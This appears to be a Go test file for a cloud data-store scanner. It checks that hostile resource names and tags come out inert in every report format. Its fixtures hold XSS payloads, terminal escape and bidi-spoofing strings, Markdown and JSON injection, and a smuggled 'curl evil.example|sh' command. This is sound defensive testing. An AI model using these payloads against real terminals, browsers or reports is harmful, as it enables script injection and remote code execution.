package main

import (
	"bytes"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/storewatch/storewatch/internal/demo"
	"github.com/storewatch/storewatch/inventory"
	"github.com/storewatch/storewatch/policies"
	"github.com/storewatch/storewatch/reporters"
	"github.com/storewatch/storewatch/reporters/reporterstest"
)

// hostileNames replace names of the demo account. Replacing the name everywhere keeps the
// joins (an instance's log groups, the alarms on its metrics) so the hostile strings reach
// every place a name can: ARNs, log group names, alarm dimensions, messages, evidence.
var hostileNames = map[string]string{
	// HTML and script.
	"etl-mysql": `etl</script><script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">`,
	// ANSI colour, an OSC 8 hyperlink, the end of a bracketed paste followed by a command,
	// a carriage return.
	"marketing-dwh": "dwh\x1b[31mRED\x1b[0m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x1b[201~;curl evil.example|sh\r\n",
	// Markdown: a table cell, a code span, a link, an image, an HTML comment, emphasis.
	"sessions-memcached": "sess|ions`x`[click](https://evil.example)![i](https://evil.example/i.png)<!--*b*_i_#h",
	// Bidi override, zero-width space, isolates, a line separator.
	"product-search": "prod\u202egpj.exe\u200b\u2066x\u2069\u2028y",
	// SARIF message placeholders and JSON-breaking quotes.
	"carts": `carts{0}{{1}}"}],"x":{"\`,
	// What XML cannot carry at all, and the end of a CDATA section.
	"analytics-athena-results": "athena\x00\x07\x0b\ufffe]]><x/>",
}

// hostileTags are put on every store.
var hostileTags = map[string]string{
	"<script>alert(1)</script>": "\x1b[2J|x|[l](javascript:alert(1))",
	"owner\u202e":               `"><svg onload=alert(1)>`,
}

// hostileRule is a user rule whose message and evidence quote names and tags.
const hostileRule = `# METADATA
# title: Hostile echo
# description: Quotes every bucket's name and tags back.
# custom: {id: ACME-ECHO-1, severity: high, service: s3, resource_types: [AWS::S3::Bucket], remediation: {console: x, cli: x, terraform: x}}
package acme.echo

deny contains {"id": b.id, "msg": sprintf("%s is tagged %v", [b.name, object.get(b, "tags", {})]), "evidence": {"name": b.name, "tags": object.get(b, "tags", {})}} if {
	some b in input.s3_buckets
}
`

// hostileSnapshot is the demo snapshot with hostile names and tags.
func hostileSnapshot(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := inventory.Write(&buf, demo.Snapshot()); err != nil {
		t.Fatal(err)
	}
	text := buf.String()
	for old, evil := range hostileNames {
		quoted, err := json.Marshal(evil)
		if err != nil {
			t.Fatal(err)
		}
		text = strings.ReplaceAll(text, old, string(quoted[1:len(quoted)-1]))
	}
	var doc map[string]any
	if err := json.Unmarshal([]byte(text), &doc); err != nil {
		t.Fatal(err)
	}
	for _, coll := range []string{"db_instances", "db_clusters", "dynamodb_tables", "s3_buckets", "redshift_clusters", "elasticache_clusters", "opensearch_domains"} {
		items, _ := doc[coll].([]any)
		for _, it := range items {
			m := it.(map[string]any)
			tags, _ := m["tags"].(map[string]any)
			if tags == nil {
				tags = map[string]any{}
			}
			for k, v := range hostileTags {
				tags[k] = v
			}
			m["tags"] = tags
		}
	}
	out, err := json.MarshalIndent(doc, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := inventory.Parse(out); err != nil {
		t.Fatalf("the hostile snapshot is not a valid snapshot: %v", err)
	}
	return out
}

// TestHostileSnapshot runs a snapshot full of hostile strings through `scanner evaluate`
// with every output format, and `scanner diff` against the demo, and checks that every
// output is valid and inert: JSON keeps the strings exactly, SARIF passes the SARIF
// Multitool, JUnit is strict XML, markdown has no markup of the input's, the terminal
// table and text diff no control character, and the HTML report runs no script and adds
// no element in Chromium, with every store and finding opened.
func TestHostileSnapshot(t *testing.T) {
	dir := t.TempDir()
	snap := filepath.Join(dir, "snapshot.json")
	if err := os.WriteFile(snap, hostileSnapshot(t), 0o644); err != nil {
		t.Fatal(err)
	}
	rules := filepath.Join(dir, "rules")
	if err := os.MkdirAll(rules, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(rules, "echo.rego"), []byte(hostileRule), 0o644); err != nil {
		t.Fatal(err)
	}
	args := []string{"evaluate", snap, "--policy", rules, "--fail-on", "none", "--format", "table"}
	out := map[string]string{}
	for _, f := range reporters.Formats() {
		out[f] = filepath.Join(dir, "report."+f)
		args = append(args, "-o", f+"="+out[f])
	}
	code, stdout, stderr := runCLI(t, args...)
	if code != exitOK {
		t.Fatalf("evaluate exit %d: %s", code, stderr)
	}
	reporterstest.CheckNoControls(t, "stdout table", stdout, "")
	read := func(f string) string {
		b, err := os.ReadFile(out[f])
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}

	t.Run("json", func(t *testing.T) {
		data := read(reporters.FormatJSON)
		if err := reporters.ValidateReport([]byte(data)); err != nil {
			t.Fatalf("JSON report does not validate: %v", err)
		}
		var r policies.Report
		if err := json.Unmarshal([]byte(data), &r); err != nil {
			t.Fatal(err)
		}
		names := map[string]bool{}
		echoed := 0
		for _, f := range r.Findings {
			names[f.Resource.Name] = true
			if f.RuleID == "ACME-ECHO-1" {
				echoed++
			}
		}
		for _, evil := range hostileNames {
			if !names[evil] {
				t.Errorf("no finding names %q exactly: the JSON report must keep the data", evil)
			}
		}
		if echoed == 0 {
			t.Error("the user rule quoting names and tags yielded nothing")
		}
	})
	t.Run("sarif", func(t *testing.T) {
		var doc map[string]any
		if err := json.Unmarshal([]byte(read(reporters.FormatSARIF)), &doc); err != nil {
			t.Fatalf("SARIF is not JSON: %v", err)
		}
		for _, w := range reporterstest.ValidateSARIF(t, out[reporters.FormatSARIF]) {
			t.Logf("SARIF Multitool warning: %s %s %v", w.RuleID, w.Message.Text, w.Message.Arguments)
		}
	})
	t.Run("junit", func(t *testing.T) {
		dec := xml.NewDecoder(strings.NewReader(read(reporters.FormatJUnit)))
		dec.Strict = true
		for {
			_, err := dec.Token()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatalf("JUnit XML does not parse: %v", err)
			}
		}
		reporterstest.CheckNoControls(t, "junit", read(reporters.FormatJUnit), "\t")
	})
	t.Run("markdown", func(t *testing.T) {
		reporterstest.CheckMarkdownInert(t, "markdown summary", read(reporters.FormatMarkdown))
	})
	t.Run("table", func(t *testing.T) {
		reporterstest.CheckNoControls(t, "table", read(reporters.FormatTable), "")
	})
	t.Run("diff", func(t *testing.T) {
		var buf bytes.Buffer
		if err := inventory.Write(&buf, demo.Snapshot()); err != nil {
			t.Fatal(err)
		}
		clean := filepath.Join(dir, "demo.json")
		if err := os.WriteFile(clean, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
		for _, format := range []string{reporters.DiffMarkdown, reporters.DiffText} {
			code, stdout, stderr := runCLI(t, "diff", clean, snap, "--policy", rules, "--format", format)
			if code != exitOK || !strings.Contains(stdout, "new") {
				t.Fatalf("diff --format %s exit %d: %s\n%s", format, code, stderr, stdout)
			}
			if format == reporters.DiffMarkdown {
				reporterstest.CheckMarkdownInert(t, "markdown diff", stdout)
			} else {
				reporterstest.CheckNoControls(t, "text diff", stdout, "")
			}
		}
	})
	t.Run("html", func(t *testing.T) {
		b := reporterstest.NewBrowser(t)
		b.Open(t, out[reporters.FormatHTML])
		var opened int
		var pwned bool
		var scripts, injected int
		var text string
		if err := chromedp.Run(b.Ctx,
			// Open every store (log groups, Logs Insights commands) and every finding (tags,
			// message, evidence, collection errors) the report draws.
			chromedp.Evaluate(`(() => {
				document.getElementById('matrix-more').hidden || document.getElementById('matrix-more').click();
				document.querySelectorAll('#finding-controls button[data-status]').forEach(b => { if (b.getAttribute('aria-pressed') !== 'true') { b.click(); } });
				return true;
			})()`, nil),
			chromedp.Sleep(300*time.Millisecond),
			chromedp.Evaluate(`(() => {
				let n = 0;
				document.querySelectorAll('#matrix tbody tr.store, #finding-table tbody tr.finding').forEach(r => { r.click(); n++; });
				return n;
			})()`, &opened),
			chromedp.Evaluate(`window.__pwned !== undefined`, &pwned),
			chromedp.Evaluate(`document.querySelectorAll('script').length`, &scripts),
			chromedp.Evaluate(`document.querySelectorAll('img, svg, iframe, object, embed, x, b, i, a[href^="javascript"], a[href^="http"]:not(#rules a)').length`, &injected),
			chromedp.Evaluate(`document.body.innerText`, &text),
		); err != nil {
			t.Fatal(err)
		}
		if opened < 50 {
			t.Errorf("opened %d stores and findings, want them all", opened)
		}
		if pwned || scripts != 2 || injected != 0 {
			t.Errorf("a hostile value ran script or added markup: __pwned set %v, %d scripts, %d injected elements", pwned, scripts, injected)
		}
		for _, want := range []string{`etl</script><script>window.__pwned=1</script>`, `dwh\x1b[31mRED`, `prod\u202egpj.exe`, "CloudWatch Logs Insights queries"} {
			if !strings.Contains(text, want) {
				t.Errorf("the report does not show %q as text", want)
			}
		}
		if strings.ContainsAny(text, "\x1b\u202e\u200b\u2066\x00") {
			t.Errorf("the report shows raw control or bidi characters")
		}
		b.Check(t, out[reporters.FormatHTML])
	})
}

// TestRulesShowInert: a user rule's metadata (from --policy, perhaps the pull request a
// gate judges) reaches the terminal through rules list and rules show as visible escapes,
// never as escape sequences that recolour, retitle or clear it.
func TestRulesShowInert(t *testing.T) {
	dir := t.TempDir()
	rule := "# METADATA\n# title: \"Evil \\u001b[31mRED\\u001b]0;title\\u0007\"\n# description: \"wipes \\u001b[2J the screen\\u202e\"\n" +
		"# custom: {id: ACME-ESC-1, severity: low, service: s3, resource_types: [AWS::S3::Bucket], remediation: {console: \"x\\u001b[31m\", cli: \"y\\u009b31m\", terraform: \"z\\u001b[0m\"}}\n" +
		"package acme.esc\n\ndeny contains {\"id\": b.id, \"msg\": \"m\"} if {\n\tsome b in input.s3_buckets\n}\n"
	if err := os.WriteFile(filepath.Join(dir, "esc.rego"), []byte(rule), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"rules", "list", "--policy", dir}, {"rules", "show", "ACME-ESC-1", "--policy", dir}} {
		code, stdout, stderr := runCLI(t, args...)
		if code != exitOK {
			t.Fatalf("%v: exit %d, stderr %s", args, code, stderr)
		}
		if !strings.Contains(stdout, `Evil \x1b[31mRED\x1b]0;title\x07`) {
			t.Errorf("%v does not show the title with visible escapes:\n%s", args, stdout)
		}
		if i := strings.IndexFunc(stdout, func(r rune) bool { return r == 0x1b || r == 0x07 || r == 0x9b || r == 0x202e }); i >= 0 {
			t.Errorf("%v writes a raw control character to the terminal: %q", args, stdout[max(0, i-20):min(len(stdout), i+20)])
		}
	}
}
